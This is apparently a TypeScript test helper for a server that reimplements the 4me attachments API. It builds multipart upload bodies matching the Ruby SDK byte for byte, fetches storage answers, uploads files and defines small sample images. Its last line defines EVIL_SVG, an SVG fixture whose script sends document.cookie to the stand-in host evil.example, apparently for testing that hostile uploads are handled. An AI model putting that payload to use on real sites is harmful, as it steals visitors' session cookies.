// Uploads as clients send them: the official Ruby SDK's multipart body, byte for byte (its
// Sdk4me::Multipart::Post: a fixed boundary, every string field as `name="..."` then its value,
// the file last with `filename="<the full path>"` and a type guessed from that name).
import type { LightMyRequestResponse } from 'fastify'
import type { TestAccount } from './harness.ts'

/** The Ruby SDK's boundary and its User-Agent (lib/sdk4me/client/multipart.rb). */
export const SDK_BOUNDARY = '0123456789ABLEWASIEREISAWELBA9876543210'
export const SDK_USER_AGENT = 'Mozilla/5.0 (Macintosh; U; PPC Mac OS X; en-us) AppleWebKit/523.10.6 (KHTML, like Gecko) Version/3.0.4 Safari/523.10.6 4me/2.0.6'

export interface FilePart {
  field: string
  filename: string
  content: Buffer
  type?: string
}

/** A multipart body: the fields in order, then the file, as the Ruby SDK lays them out. */
export function multipartBody(fields: Array<[string, string]>, file?: FilePart, boundary = SDK_BOUNDARY): Buffer {
  const parts: Buffer[] = []
  for (const [name, value] of fields) parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${encodeURIComponent(name).replaceAll('%20', '+')}"\r\n\r\n${value}\r\n`))
  if (file) {
    parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${file.field}"; filename="${file.filename}"\r\nContent-Type: ${file.type ?? 'application/octet-stream'}\r\n\r\n`))
    parts.push(file.content, Buffer.from('\r\n'))
  }
  parts.push(Buffer.from(`--${boundary}--`))
  return Buffer.concat(parts)
}

export interface StorageAnswer {
  provider: string
  upload_uri: string
  size_limit: number
  allowed_extensions: string[]
  local: { key: string; 'x-4me-expiration': string; 'x-4me-signature': string }
}

export async function storageOf(account: TestAccount): Promise<StorageAnswer> {
  const res = await account.call('GET', '/v1/attachments/storage')
  if (res.statusCode !== 200) throw new Error(`storage: ${res.statusCode} ${res.body}`)
  return res.json()
}

/**
 * Uploads as the Ruby SDK's attachment helper does for the `local` provider: a Content-Type field
 * (application/octet-stream: it guesses from the key template), every field of the storage
 * answer unchanged, then the file under its full path.
 */
export function sdkUpload(account: TestAccount, storage: StorageAnswer, path: string, content: Buffer, headers: Record<string, string> = {}): Promise<LightMyRequestResponse> {
  const fields: Array<[string, string]> = [['Content-Type', 'application/octet-stream'], ...Object.entries(storage.local)]
  // (Behind PUBLIC_URL's path a proxy strips it: the server itself serves /v1.)
  return account.call('POST', new URL(storage.upload_uri).pathname.replace(/^.*?\/v1\//, '/v1/'), multipartBody(fields, { field: 'file', filename: path, content }), {
    'content-type': `multipart/form-data; boundary=${SDK_BOUNDARY}`,
    'user-agent': SDK_USER_AGENT,
    'x-4me-account': account.id,
    ...headers,
  })
}

/** Uploads a file under a fresh storage answer; answers the key (fails on anything but 200). */
export async function uploaded(account: TestAccount, name: string, content: Buffer): Promise<string> {
  const res = await sdkUpload(account, await storageOf(account), `/tmp/${name}`, content)
  if (res.statusCode !== 200) throw new Error(`upload of ${name}: ${res.statusCode} ${res.body}`)
  return res.json().key
}

/** A tiny valid PNG (1x1), and other images by their magic bytes. */
export const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64')
export const GIF = Buffer.from('R0lGODlhAQABAAAAACw=', 'base64')
export const SVG = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="#0a0"/></svg>')
export const EVIL_SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>fetch("https://evil.example/"+document.cookie)</script></svg>')
